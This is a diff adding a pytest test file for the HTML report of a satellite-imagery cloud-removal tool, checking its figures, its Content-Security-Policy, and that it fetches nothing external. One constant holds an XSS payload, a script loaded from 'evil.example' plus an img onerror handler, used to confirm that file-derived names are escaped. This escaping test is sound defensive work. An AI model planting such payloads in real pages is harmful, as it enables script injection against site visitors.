@@ -1,0 +1,142 @@
+import base64
+import hashlib
+import re
+from datetime import UTC, datetime
+from html.parser import HTMLParser
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from unclouded.prediction.expected_error import ErrorOf, ExpectedError
+from unclouded.prediction.report import page, write_report
+from unclouded.prediction.report_facts import Facts, Input
+from unclouded.prediction.views import Gathered, SceneViews, gather
+
+BANDS = ("B04", "B03", "B02")
+HOSTILE = '"><script src=//evil.example/x.js></script><img src=x onerror=alert(1)>'
+RADAR = Input("Sentinel-1", "radar.tif", "ab" * 32, datetime(2018, 1, 3, 6, 0, tzinfo=UTC))
+OPTICS = Input("Sentinel-2", "optics.tif", "cd" * 32, datetime(2018, 1, 1, 18, 0, tzinfo=UTC))
+EXPECTED = ExpectedError(
+    {"scene-adapted": ErrorOf(0.0213, 0.0316228, 7.5), "clear-mean": ErrorOf(0.04, 0.05, 11.0)}, 12345, BANDS, False
+)
+
+
+def gathered(confidence: bool = True, side: int = 32, cloudy: float = 0.9) -> Gathered:
+    rng = np.random.default_rng(0)
+    after = rng.uniform(0.05, 0.2, (3, side, side)).astype(np.float32)
+    m = np.zeros((side, side), np.float32)
+    m[: side // 4] = cloudy
+    sure = np.where(m > 0, np.float32(0.4), np.float32(1.0))
+    before = np.where(m > 0, np.float32(0.8), after)
+    return gather(
+        SceneViews(
+            (side, side),
+            BANDS,
+            lambda top, bottom: before[:, top:bottom],
+            lambda top, bottom: after[:, top:bottom],
+            lambda top, bottom: m[None, top:bottom],
+            (lambda top, bottom: sure[None, top:bottom]) if confidence else None,
+        )
+    )
+
+
+def facts(**changes: object) -> Facts:
+    given: dict[str, object] = {"title": "Spain", "remover": "scene-adapted", "bands": BANDS, "inputs": [OPTICS, RADAR]}
+    return Facts(**(given | {"expected": EXPECTED, "pixel_m": 10.0, "version": "0.1.0"} | changes))  # type: ignore[arg-type]
+
+
+class Addresses(HTMLParser):
+    """Collects whatever a browser would fetch or run."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.fetched: list[str] = []
+        self.events: list[str] = []
+        self.feed(text)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.fetched += [value or "" for key, value in attrs if key in ("src", "href", "srcset", "action", "data")]
+        self.events += [key for key, _ in attrs if key.startswith("on") or key == "style"]
+
+
+def test_the_page_says_the_numbers() -> None:
+    text = page(facts(), gathered())
+    for said in (
+        "<b>75.0 %</b>",  # 24 of 32 rows are clear
+        "<b>25.0 %</b>",
+        "<b>100.0 %</b><span>of those are a guess",
+        "<b>± 0.021</b>",
+        "<b>1.5 days</b>",
+        "32 × 32 px, 0.32 × 0.32 km",
+        "12,345 clear pixels were covered",
+        '<td class="number">30.00</td>',  # 20 log10(1 / 0.0316228)
+        "scene-adapted erred least, and was used.",
+        f"SHA-256 {'cd' * 32}",
+    ):
+        assert said in text
+
+
+def test_nothing_is_fetched_and_nothing_runs_but_the_one_script() -> None:
+    seen = Addresses(page(facts(), gathered(side=700)))
+    assert seen.tags.count("script") == 1
+    assert len(seen.fetched) >= 4
+    assert all(address.startswith(("data:image/png;base64,", "data:image/jpeg;base64,")) for address in seen.fetched)
+    assert seen.events == []
+
+
+def test_the_policy_allows_exactly_the_style_and_the_script_of_the_page() -> None:
+    text = page(facts(), gathered())
+    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', text)
+    assert policy is not None
+    assert policy[1].startswith("default-src 'none'; img-src data:;")
+    for kind in ("style", "script"):
+        body = re.search(f"<{kind}>(.*?)</{kind}>", text, re.DOTALL)
+        assert body is not None
+        digest = base64.b64encode(hashlib.sha256(body[1].encode()).digest()).decode()
+        assert f"{kind}-src 'sha256-{digest}'" in policy[1]
+
+
+@pytest.mark.parametrize("where", ["title", "input", "setting", "measured", "remark", "remover"])
+def test_names_from_files_are_text_and_never_markup(where: str) -> None:
+    changes: dict[str, dict[str, object]] = {
+        "title": {"title": HOSTILE},
+        "input": {"inputs": [Input("Sentinel-2", HOSTILE, "00")]},
+        "setting": {"settings": {HOSTILE: HOSTILE}},
+        "measured": {"measured": {HOSTILE: HOSTILE}},
+        "remark": {"remarks": [HOSTILE]},
+        "remover": {"remover": HOSTILE, "expected": ExpectedError({HOSTILE: ErrorOf(0, 0, 0)}, 1, BANDS, True)},
+    }
+    text = page(facts(**changes[where]), gathered())
+    plain = Addresses(page(facts(), gathered()))
+    seen = Addresses(text)
+    assert HOSTILE not in text
+    assert "evil.example" in text
+    assert seen.tags.count("script") == 1
+    assert seen.tags.count("img") == plain.tags.count("img")
+
+
+def test_without_dates_expectation_or_confidence_the_page_leaves_them_out() -> None:
+    bare = page(
+        facts(inputs=[Input("Sentinel-2", "a.tif", "00")], expected=None, pixel_m=None), gathered(confidence=False)
+    )
+    for absent in ("days", "What error to expect", "how sure", " km"):
+        assert absent not in bare.split("<body>")[1]
+
+
+def test_a_better_remover_that_was_not_used_is_named() -> None:
+    assert "scene-adapted erred least; clear-mean was used." in page(facts(remover="clear-mean"), gathered())
+
+
+def test_fault_14_a_scene_without_clouds_or_without_clear_ground_has_a_page() -> None:
+    assert "<b>100.0 %</b><span>of the pixels are as observed" in page(facts(), gathered(cloudy=0.0))
+    overcast = gathered(side=4, cloudy=0.9)
+    assert "<svg" in page(facts(), overcast)
+
+
+def test_the_same_scene_gives_the_same_bytes(tmp_path: Path) -> None:
+    for name in ("a.html", "b.html"):
+        write_report(tmp_path / name, facts(), gathered())
+    assert (tmp_path / "a.html").read_bytes() == (tmp_path / "b.html").read_bytes()
